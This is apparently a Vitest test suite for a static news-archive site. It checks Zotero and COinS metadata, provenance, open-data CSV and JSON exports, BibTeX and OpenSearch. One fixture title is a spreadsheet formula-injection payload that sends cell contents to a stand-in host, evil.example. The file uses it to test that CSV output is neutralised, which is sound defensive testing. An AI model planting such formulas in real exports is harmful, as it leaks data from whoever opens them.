/**
 * What researchers take from a build: the item Zotero saves from an article page
 * and from listings (COinS), the provenance of each article, the open data files
 * and their JSON Schemas, and the OpenSearch description. One build under a base
 * path, with the seeds and one imported article that records its provenance.
 */
import { readFileSync } from 'node:fs';
import path from 'node:path';
import Ajv from 'ajv';
import type { CheerioAPI } from 'cheerio';
import { XMLParser } from 'fast-xml-parser';
import { SyntaxValidator } from 'fast-xml-validator';
import Papa from 'papaparse';
import { beforeAll, describe, expect, it } from 'vitest';
import { recordKey } from '../../src/search/export';
import { articleText, writeArchive } from '../support/archive';
import { buildSite } from '../support/build';
import { fileFor, loadPage } from '../support/dist';
import { readBibtex, readCsv, spreadsheetRuns } from '../support/readers';
import { parseCoins, readEmbeddedMetadata } from '../support/zotero';

const SITE = 'https://news.example.org';
const BASE = '/archive';
const SHA = '3f9c1a0d5be4e4b8f0c9a7d2e61b5f4c8a0e9d7c6b5a4f3e2d1c0b9a8f7e6d5c';
const IMPORTED = '/articles/2024/01/tokayev-and-putin-discuss-energy/';
const CALL = '/articles/2021/05/head-of-state-had-telephone-talk-with-tajik-president/';
/** An article that records only its source: no address, licence, byline or provenance. */
const BARE = '/articles/2023/06/bare-statement/';
const TITLE = 'Tokayev and Putin discuss "energy, trade & water" <today>';
/** An article whose every text would run in a spreadsheet or break a BibTeX entry, with tags of every kind. */
const HOSTILE = '/articles/2022/03/hostile/';
const HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Click") {draft';
const HOSTILE_TAGS = ['C++', 'C#', 'c', '中文', '…'];

let dist = '';
let output = '';
beforeAll(() => {
  const contentDir = writeArchive(
    'research-data',
    {
      '2024/01/tokayev-and-putin-discuss-energy.md': articleText({
        title: `'${TITLE}'`,
        summary: '\'The two presidents spoke by phone, the Kremlin said; "a good talk", Tokayev added.\'',
        published: "'2024-01-15T00:30:00+05:00'",
        source:
          '\n  name: Kremlin\n  url: https://en.kremlin.ru/events/president/news/1?a=1&b=2\n  licence: CC BY 4.0',
        author: 'Aigerim Tasbulatova',
        lang: 'en',
        leaders: '\n  - kassym-jomart-tokayev\n  - vladimir-putin',
        countries: '\n  - kazakhstan\n  - russia',
        tags: '\n  - Energy',
        provenance: `\n  sha256: ${SHA}\n  importer: 1.4.0`,
      }),
      '2022/03/hostile.md': articleText({
        title: `'${HOSTILE_TITLE}'`,
        summary: '\'+1 and -2: a "quoted" summary.\'',
        published: "'2022-03-02'",
        source: '\n  name: "-Agency"\n  url: https://ru.sputnik.kz/20220302/токаев.html',
        author: "'@handle'",
        tags: `\n${HOSTILE_TAGS.map((t) => `  - '${t}'`).join('\n')}`,
      }),
      '2023/06/bare-statement.md': articleText({
        published: "'2023-06-01'",
        source: '\n  name: Akorda',
        kind: 'statement',
      }),
    },
    { withSeeds: true },
  );
  const result = buildSite({ name: 'research-data', contentDir, base: BASE, siteUrl: SITE, locales: 'en' });
  if (result.status !== 0) throw new Error(`build failed:\n${result.output}`);
  dist = result.outDir;
  output = result.output;
});

const page = (sitePath: string): CheerioAPI => loadPage(dist, sitePath);
const url = (sitePath: string): string => `${SITE}${BASE}${sitePath}`;
const dataText = (file: string): string => readFileSync(path.join(dist, 'data', file), 'utf8');

describe('article pages, as Zotero reads them', () => {
  it('save as a newspaper article with title, author, date, publication, language, URL and licence', () => {
    expect(readEmbeddedMetadata(page(IMPORTED))).toEqual({
      itemType: 'newspaperArticle',
      title: TITLE,
      creators: ['Aigerim Tasbulatova'],
      // 00:30 at UTC+05:00: the source's day, not the UTC one (14 January).
      date: '2024-01-15',
      publicationTitle: 'Kremlin',
      language: 'en',
      url: url(IMPORTED),
      abstractNote: 'The two presidents spoke by phone, the Kremlin said; "a good talk", Tokayev added.',
      rights: 'CC BY 4.0',
    });
  });

  it('save the seed call with its byline and source', () => {
    const item = readEmbeddedMetadata(page(CALL));
    expect(item).toMatchObject({
      itemType: 'newspaperArticle',
      title: 'Head of State had telephone talk with Tajik President',
      creators: ['Kudrenok Tatyana'],
      date: '2021-05-02',
      publicationTitle: 'Kazinform',
      language: 'en',
      url: url(CALL),
    });
  });

  it('say og:type article, name no journal, and give one citation_author per author', () => {
    const $ = page(IMPORTED);
    expect($('meta[property="og:type"]').attr('content')).toBe('article');
    expect($('meta[name="citation_journal_title"]')).toHaveLength(0);
    expect($('meta[name="citation_author"]')).toHaveLength(1);
    expect($('meta[name="citation_public_url"]').attr('content')).toBe(url(IMPORTED));
  });

  it('leave listing pages to COinS: no citation tags outside articles', () => {
    for (const sitePath of ['/', '/leaders/', '/data/']) {
      expect(page(sitePath)('meta[name^="citation_"], meta[name="DC.type"]')).toHaveLength(0);
    }
  });
});

describe('listing pages, as Zotero reads their COinS', () => {
  const listings = [
    '/',
    '/leaders/kassym-jomart-tokayev/',
    '/countries/kazakhstan/',
    '/tags/energy/',
    '/archive/2024/01/',
    '/leaders/kassym-jomart-tokayev/with/vladimir-putin/',
    '/countries/kazakhstan/with/russia/',
  ];

  it.each(listings)('%s describes every listed article in a COinS span', (sitePath) => {
    const $ = page(sitePath);
    // A listing's cards, or a pair page's timeline entries.
    const items = $('.article-list > li, .timeline li.entry');
    expect(items.length).toBeGreaterThan(0);
    items.each((_, li) => {
      const href = $(li).find('a[href*="/articles/"]').first().attr('href')!;
      const spans = $(li).find('span.Z3988');
      expect(spans).toHaveLength(1);
      const item = parseCoins(spans.attr('title')!);
      expect(item?.itemType).toBe('newspaperArticle');
      expect(item?.url).toBe(`${SITE}${href}`);
      expect(item?.title).toBe($(li).find('a[href*="/articles/"]').first().text().trim());
    });
  });

  it('escapes the ContextObject so that quotes, ampersands and angle brackets survive', () => {
    const $ = page('/tags/energy/');
    const item = parseCoins($('span.Z3988').attr('title')!);
    expect(item).toMatchObject({
      title: TITLE,
      publicationTitle: 'Kremlin',
      creators: ['Aigerim Tasbulatova'],
    });
    const html = readFileSync(fileFor(dist, `${BASE}/tags/energy/`, BASE)!, 'utf8');
    expect(html).toMatch(/class="Z3988" title="ctx_ver=Z39\.88-2004&amp;rft_val_fmt=/);
  });
});

/** The Provenance block's facts, label to value. */
function provenanceFacts($: CheerioAPI): Record<string, string> {
  return Object.fromEntries(
    $('section.provenance dt')
      .map((_, dt) => [[$(dt).text().trim(), $(dt).next('dd').text().trim()]])
      .get() as [string, string][],
  );
}

describe('provenance', () => {
  it('shows the source, licence, SHA-256, importer and the archived copy nearest the publication', () => {
    const $ = page(IMPORTED);
    const block = $('section.provenance');
    expect(block.find('h2').text()).toBe('Provenance');
    expect(provenanceFacts($)).toMatchObject({
      Source: 'Kremlin',
      Licence: 'CC BY 4.0',
      'SHA-256 of the raw text': SHA,
      'Importer version': '1.4.0',
    });
    // 00:30 at UTC+05:00 is 19:30 UTC the day before.
    expect(block.find('a[href^="https://web.archive.org/"]').attr('href')).toBe(
      'https://web.archive.org/web/20240114193000/https://en.kremlin.ru/events/president/news/1?a=1&b=2',
    );
  });

  it('shows only what is known for an article without provenance', () => {
    const $ = page(BARE);
    expect(provenanceFacts($)).toEqual({ Source: 'Akorda', Licence: 'not stated' });
    expect($('section.provenance a')).toHaveLength(0);
  });

  it('is in the JSON-LD: isBasedOn the source page and raw text, archivedAt, license', () => {
    const $ = page(IMPORTED);
    const ld = $('script[type="application/ld+json"]')
      .map((_, s) => JSON.parse($(s).text()))
      .get()
      .find((d: { '@type': string }) => d['@type'] === 'NewsArticle');
    expect(ld.license).toBe('CC BY 4.0');
    expect(ld.archivedAt).toMatch(/^https:\/\/web\.archive\.org\/web\/20240114193000\//);
    expect(ld.isBasedOn[0]).toBe('https://en.kremlin.ru/events/president/news/1?a=1&b=2');
    expect(ld.isBasedOn[1].identifier.value).toBe(SHA);
  });
});

describe('open data', () => {
  it('has a data page, linked from the footer of every page, that links every file', () => {
    for (const sitePath of ['/', IMPORTED, '/search/']) {
      expect(
        page(sitePath)('footer a')
          .filter((_, a) => page(sitePath)(a).text() === 'Data')
          .attr('href'),
      ).toBe(`${BASE}/data/`);
    }
    const $ = page('/data/');
    const hrefs = $('main a')
      .map((_, a) => $(a).attr('href'))
      .get();
    for (const file of ['articles-2024.csv', 'articles-2021.jsonl', 'leaders.json', 'articles.schema.json']) {
      expect(hrefs).toContain(`${BASE}/data/${file}`);
    }
    for (const href of hrefs) expect(fileFor(dist, href, BASE), href).toBeDefined();
  });

  it('writes a CSV per year that a CSV parser reads as one row per article, with the right values', () => {
    const parsed = Papa.parse<Record<string, string>>(dataText('articles-2024.csv'), {
      header: true,
      skipEmptyLines: true,
    });
    expect(parsed.errors).toEqual([]);
    expect(parsed.data).toHaveLength(1);
    expect(parsed.data[0]).toEqual({
      id: '2024/01/tokayev-and-putin-discuss-energy',
      url: url(IMPORTED),
      title: TITLE,
      summary: 'The two presidents spoke by phone, the Kremlin said; "a good talk", Tokayev added.',
      published: '2024-01-15T00:30:00+05:00',
      source: 'Kremlin',
      source_url: 'https://en.kremlin.ru/events/president/news/1?a=1&b=2',
      licence: 'CC BY 4.0',
      author: 'Aigerim Tasbulatova',
      kind: 'report',
      language: 'en',
      leaders: 'kassym-jomart-tokayev; vladimir-putin',
      countries: 'kazakhstan; russia',
      tags: 'Energy',
      word_count: '4',
    });
    const seeds = Papa.parse<Record<string, string>>(dataText('articles-2021.csv'), {
      header: true,
      skipEmptyLines: true,
    });
    expect(seeds.data.map((r) => r['url'])).toEqual([url(CALL)]);
    const bare = Papa.parse<Record<string, string>>(dataText('articles-2023.csv'), { header: true });
    expect(bare.data[0]).toMatchObject({ source_url: '', licence: '', author: '', tags: '' });
  });

  it('writes CSV that two parsers read with the header first, and no cell a spreadsheet runs', () => {
    const text = dataText('articles-2022.csv');
    expect(text.startsWith('\uFEFFid,url,title,')).toBe(true);
    const [row, ...rest] = readCsv(text);
    expect(rest).toEqual([]);
    for (const [column, cell] of Object.entries(row!)) expect(spreadsheetRuns(cell), column).toBe(false);
    expect(row).toMatchObject({
      title: `'${HOSTILE_TITLE}`,
      summary: '\'+1 and -2: a "quoted" summary.',
      author: "'@handle",
      source: "'-Agency",
      // The address as the schema writes it: percent-encoded, as the JSON Schema requires.
      source_url: 'https://ru.sputnik.kz/20220302/%D1%82%D0%BE%D0%BA%D0%B0%D0%B5%D0%B2.html',
      tags: HOSTILE_TAGS.join('; '),
    });
    const json = JSON.parse(dataText('articles-2022.jsonl'));
    expect(json).toMatchObject({ title: HOSTILE_TITLE, author: '@handle', tags: HOSTILE_TAGS });
  });

  it('writes JSON Lines rows that validate against the published JSON Schema', () => {
    const ajv = new Ajv({ allErrors: true });
    const validate = ajv.compile(JSON.parse(dataText('articles.schema.json')));
    for (const year of [2021, 2022, 2023, 2024, 2025]) {
      const lines = dataText(`articles-${year}.jsonl`).split('\n');
      expect(lines.pop()).toBe('');
      expect(lines).toHaveLength(1);
      for (const line of lines)
        expect(validate(JSON.parse(line)), ajv.errorsText(validate.errors)).toBe(true);
    }
    const row = JSON.parse(dataText('articles-2023.jsonl'));
    expect(row).toMatchObject({ source_url: null, licence: null, author: null, tags: [] });
    expect(validate({ ...row, published: '1 June 2023' })).toBe(false);
    expect(validate({ ...row, extra: 1 })).toBe(false);
  });

  it('writes the leaders with their offices and the countries, valid against their schemas', () => {
    const ajv = new Ajv({ allErrors: true });
    for (const name of ['leaders', 'countries']) {
      const validate = ajv.compile(JSON.parse(dataText(`${name}.schema.json`)));
      const data = JSON.parse(dataText(`${name}.json`));
      expect(validate(data), ajv.errorsText(validate.errors)).toBe(true);
    }
    const leaders = JSON.parse(dataText('leaders.json')) as { id: string; url: string; offices: unknown[] }[];
    const tokayev = leaders.find((l) => l.id === 'kassym-jomart-tokayev')!;
    expect(tokayev.url).toBe(url('/leaders/kassym-jomart-tokayev/'));
    expect(tokayev.offices.length).toBeGreaterThan(0);
  });

  it('keeps each row within the size budget: 1.5 KB a row, a few MB a year at 100,000 articles', () => {
    for (const file of ['articles-2021.csv', 'articles-2024.jsonl', 'articles-2025.jsonl']) {
      expect(Buffer.byteLength(dataText(file))).toBeLessThan(1536);
    }
  });

  it('documents every column in the codebook', () => {
    const $ = page('/data/codebook/');
    const columns = $('table tbody th code')
      .map((_, c) => $(c).text())
      .get();
    const header = Object.keys(readCsv(dataText('articles-2021.csv'))[0]!);
    expect(columns).toEqual(header);
  });

  it('is not indexed by the search', () => {
    // Five article pages: the two seeds' and the three above; no data page.
    expect(output).toMatch(/\[search index\] 5 article pages read/);
  });
});

describe('tags and citations of any text', () => {
  it('give each tag a page of its own, titled as written, however it is written', () => {
    const pages = HOSTILE_TAGS.map((tag) => {
      const link = page(HOSTILE)(`a:contains("#${tag}")`).filter(
        (_, a) => page(HOSTILE)(a).text() === `#${tag}`,
      );
      return link.attr('href') ?? '';
    });
    expect(new Set(pages).size).toBe(HOSTILE_TAGS.length);
    expect(pages.slice(0, 2)).toEqual([`${BASE}/tags/c-plus-plus/`, `${BASE}/tags/c-sharp/`]);
    for (const [i, href] of pages.entries()) {
      expect(href).toMatch(/^\/archive\/tags\/[a-z0-9-]+\/$/);
      expect(page(href.slice(BASE.length))('h1').text()).toContain(HOSTILE_TAGS[i]!);
    }
  });

  it('cite in BibTeX that a parser reads whole, with the key the search’s export gives the article', () => {
    const bibtex = page(HOSTILE)('.citation details')
      .filter((_, d) => page(HOSTILE)(d).find('summary').text() === 'BibTeX')
      .find('pre')
      .text();
    const [entry] = readBibtex(bibtex);
    expect(entry?.fields['title']).toBe(HOSTILE_TITLE);
    expect(entry?.fields['date']).toBe('2022-03-02');
    expect(entry?.key).toBe(recordKey({ url: url(HOSTILE), published: '2022-03-02' }));
    expect(bibtex).not.toMatch(/month\s*=/);
  });
});

describe('OpenSearch', () => {
  it('is valid OpenSearch 1.1 XML whose template searches the search page', () => {
    const xml = readFileSync(path.join(dist, 'opensearch.xml'), 'utf8');
    expect(() => SyntaxValidator.validate(xml)).not.toThrow();
    const doc = new XMLParser({ ignoreAttributes: false }).parse(xml).OpenSearchDescription;
    expect(doc['@_xmlns']).toBe('http://a9.com/-/spec/opensearch/1.1/');
    expect(doc.ShortName.length).toBeLessThanOrEqual(16);
    expect(doc.Description.length).toBeLessThanOrEqual(1024);
    const html = doc.Url.find((u: Record<string, string>) => u['@_type'] === 'text/html');
    expect(html['@_template']).toBe(`${SITE}${BASE}/search/?q={searchTerms}`);
  });

  it('is linked from the head of every page', () => {
    for (const sitePath of ['/', IMPORTED, '/search/', '/data/', '/leaders/']) {
      const link = page(sitePath)('head link[rel="search"]');
      expect(link.attr('type')).toBe('application/opensearchdescription+xml');
      expect(link.attr('href')).toBe(`${BASE}/opensearch.xml`);
    }
  });
});
